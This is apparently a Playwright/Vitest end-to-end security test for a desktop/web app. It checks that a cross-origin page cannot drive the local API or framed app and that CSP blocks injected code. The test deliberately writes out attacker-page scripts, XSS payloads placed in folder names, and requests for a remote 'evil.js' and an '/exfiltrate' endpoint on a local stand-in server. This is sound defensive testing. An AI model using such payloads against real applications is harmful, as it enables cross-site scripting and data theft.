import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser, RENDERER_DIR } from '../../e2e/harness';
import { makeImageFolder } from '../../helpers/fixtures';
import { startWebLab, type WebLab } from '../helpers/web-lab';

/**
 * Real Chromium against web mode: another local page must not drive the API, and the app's own
 * page (served, or loaded from file:// as Electron does) runs no injected or remote code.
 */
let web: WebLab;
let browser: Browser;
let other: Server;
let otherOrigin: string;
/** Paths the other server was asked for: a blocked remote image must never be fetched. */
const otherRequests: string[] = [];

/** The attacking page: it knows the API's port and even the token, and tries everything a page can. */
function attackerPage(api: string, token: string): string {
  return `<!doctype html><script>
  window.results = {};
  window.done = (async () => {
    const body = JSON.stringify({ root: '/' });
    try {
      const r = await fetch('${api}/api/datasets.open', { method: 'POST', headers: { 'content-type': 'application/json', 'x-fixres-token': '${token}' }, body });
      results.fetchWithToken = 'answered ' + r.status;
    } catch (e) { results.fetchWithToken = 'blocked'; }
    try {
      await fetch('${api}/api/datasets.open', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body });
      results.simplePost = 'sent';
    } catch (e) { results.simplePost = 'blocked'; }
    results.webSocket = await new Promise((resolve) => {
      const ws = new WebSocket('${api.replace('http', 'ws')}/events?token=${token}');
      ws.onopen = () => resolve('open');
      ws.onerror = () => resolve('refused');
    });
  })();
</script><iframe id="app" src="${api}/"></iframe>`;
}

beforeAll(async () => {
  if (!existsSync(join(RENDERER_DIR, 'index.html'))) throw new Error('Build the renderer first: npm run build');
  web = await startWebLab({ rendererDir: RENDERER_DIR });
  other = createServer((req, res) => {
    otherRequests.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(attackerPage(web.base, web.server.token));
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => other?.close(resolve));
  await web?.close();
});

/**
 * Collects CSP violations in the page and tries an inline script, an inline handler and remote
 * content. (eval cannot be tried from here: DevTools evaluation is exempt from CSP; the policies
 * are checked for 'unsafe-eval' instead.)
 */
async function attemptInjection(page: Page): Promise<{ ran: string[]; violations: string[] }> {
  return page.evaluate(`(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective + ' ' + e.blockedURI));
    window.ran = [];
    const s = document.createElement('script');
    s.textContent = 'window.ran.push("inline script")';
    document.head.append(s);
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran.push(\\'inline handler\\')">');
    const remoteScript = document.createElement('script');
    remoteScript.src = '${otherOrigin}/evil.js';
    document.head.append(remoteScript);
    const img = new Image();
    img.src = '${otherOrigin}/pixel.png';
    document.body.append(img);
    try { await fetch('${otherOrigin}/exfiltrate'); } catch {}
    // Chromium reports violations as tasks, the image's late: wait for all four (up to 20 s on a slow
    // machine) rather than a fixed pause. The inline handler would have run by then: its violation is
    // reported at the moment it would run.
    const wanted = ['script-src-elem', 'script-src-attr', 'img-src', 'connect-src'];
    for (let waited = 0; waited < 20000 && !wanted.every((d) => violations.some((v) => v.startsWith(d + ' '))); waited += 50)
      await new Promise((r) => setTimeout(r, 50));
    return { ran: window.ran, violations };
  })()`);
}

describe('in Chromium', () => {
  it('a page from another local origin cannot call the API (even with the token), open the event stream, or frame the app', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    // The user has the app open: its cookie is in this browser.
    await page.goto(web.server.url);
    const consoleLines: string[] = [];
    page.on('console', (m) => consoleLines.push(m.text()));
    await page.goto(`${otherOrigin}/`);
    await page.evaluate('window.done');
    // The simple POST needs no preflight, so it is sent; the server refuses it (403, and its
    // Cross-Origin-Resource-Policy makes Chromium reject the response too).
    expect(await page.evaluate('window.results')).toEqual({
      fetchWithToken: 'blocked',
      simplePost: 'blocked',
      webSocket: 'refused',
    });
    expect(web.lab.datasets.list()).toEqual([]);
    // The iframe loads on its own schedule: poll for Chromium's refusal instead of reading once.
    await expect.poll(() => consoleLines.some((l) => /frame-ancestors/.test(l)), { timeout: 20_000 }).toBe(true);
    await context.close();
  });

  it('shows markup in dataset names and class folders as text: nothing in it runs or loads in the app page', async () => {
    const root = join(web.dir, '<img src=x onerror=window.ran=1>');
    await makeImageFolder(root, { '<img src=x onerror=window.ran=2>': 2, '<svg onload=window.ran=3>': 2 });
    await web.value('datasets.open', { root });
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(web.server.url);
    await page.evaluate(
      `document.addEventListener('securitypolicyviolation', (e) => (window.violations = [...(window.violations ?? []), e.effectiveDirective]))`,
    );
    await page.getByRole('table').getByRole('cell', { name: '<svg onload=window.ran=3>' }).waitFor({ timeout: 30_000 });
    expect(await page.getByText('<img src=x onerror=window.ran=2>').count()).toBeGreaterThan(0);
    expect(await page.evaluate('[window.ran, window.violations]')).toEqual([undefined, undefined]);
    expect(await page.locator('img[src="x"], svg[onload]').count()).toBe(0);
    await context.close();
  });

  for (const mode of ['web mode', 'Electron (file://)'] as const) {
    it(`the app page in ${mode} runs no inline script or inline handler, allows no eval, and loads nothing remote`, async () => {
      const context = await browser.newContext();
      const page = await context.newPage();
      const response = await page.goto(
        mode === 'web mode' ? web.server.url : pathToFileURL(join(RENDERER_DIR, 'index.html')).href,
      );
      const policy =
        mode === 'web mode'
          ? response!.headers()['content-security-policy']!
          : await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
      expect(policy).toMatch(/script-src 'self'/);
      expect(policy).not.toMatch(/unsafe-/);
      otherRequests.length = 0;
      const { ran, violations } = await attemptInjection(page);
      expect(ran).toEqual([]);
      const directives = violations.map((v) => v.split(' ')[0]);
      expect(directives).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr', 'img-src', 'connect-src']));
      expect(otherRequests).toEqual([]);
      await context.close();
    });
  }
});
